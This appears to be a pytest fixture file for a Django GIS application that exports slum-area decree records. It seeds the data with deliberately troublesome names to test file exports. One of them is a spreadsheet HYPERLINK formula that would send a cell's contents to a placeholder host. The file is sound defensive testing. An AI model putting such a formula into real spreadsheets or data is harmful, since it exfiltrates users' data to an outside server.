"""A regency with everything in it that has ever broken a file."""

import datetime
from pathlib import Path

import pytest
from django.db import connection

from spatial.models import DecreeLine, Kawasan
from tests import places

FORMULA = '=HYPERLINK("http://example.org?x="&A1;"klik")'
AWKWARD = 'Kampung "Ujung"; <b>&amp;, baris\nkedua\tRT\u0007 — ’ñ漢字 _x0041_ \\N \\.'


@pytest.fixture
def rows(decree) -> None:
    """Slum areas of a decree in force and of one before it, with awkward names, NULLs, an empty text, and a kelurahan without boundary."""
    old = places.add_decree(number="188.45/0/KEP/2009", status="superseded", date=datetime.date(2009, 1, 5))
    places.add_slum_area(old, places.BANYUROJO, places.box(6, 0), rt="009", rw="001")
    formula = Kawasan.objects.create(decree=decree, name=FORMULA)
    awkward = Kawasan.objects.create(decree=decree, name=AWKWARD)
    places.add_slum_area(
        decree, places.MERTOYUDAN_DESA, places.box(0, 0), kawasan=formula, rt="004", rw="002", stated_area_ha="1.25"
    )
    places.add_slum_area(decree, places.MERTOYUDAN_DESA, places.box(2, 1, 2, 1), kawasan=awkward, fictitious=True)
    places.add_slum_area(decree, places.BANYUROJO, places.box(5, 5), verified_area_ha="0.5")
    DecreeLine.objects.create(
        decree=decree, position=1, wilayah_id=places.MERTOYUDAN, stated_area_ha="31.07", stated_area_text="31,07"
    )
    DecreeLine.objects.create(decree=decree, position=2, kawasan=formula, stated_area_ha="1.2", stated_area_text="-1,2")


@pytest.fixture
def download(client, tmp_path, settings):
    """Fetch a file; returns its path."""
    settings.DOWNLOAD_DIR = tmp_path / "made"

    def fetch(name: str, **query) -> Path:
        response = client.get(f"/download/{name}", query)
        body = b"".join(response.streaming_content) if response.streaming else response.content
        assert response.status_code == 200, body
        path = tmp_path / name
        path.write_bytes(body)
        assert not list((tmp_path / "made").iterdir()), "nothing stays on disk"
        return path

    return fetch


def in_database(view: str, where: str = "true", srid: int = 4326) -> list[dict]:
    """The rows of a view in the order of their key, hectares as floats, geom as WKT."""
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT * FROM gis.{view} WHERE {where} ORDER BY 1")
        names = [column.name for column in cursor.description]
        found = [dict(zip(names, row, strict=True)) for row in cursor.fetchall()]
        for row in found:
            if "geom" in row:
                cursor.execute("SELECT ST_AsText(ST_Transform(%s::geometry, %s), 12)", [row["geom"], srid])
                row["geom"] = cursor.fetchone()[0]
            row.update({name: float(value) for name, value in row.items() if hasattr(value, "as_tuple")})
    return found
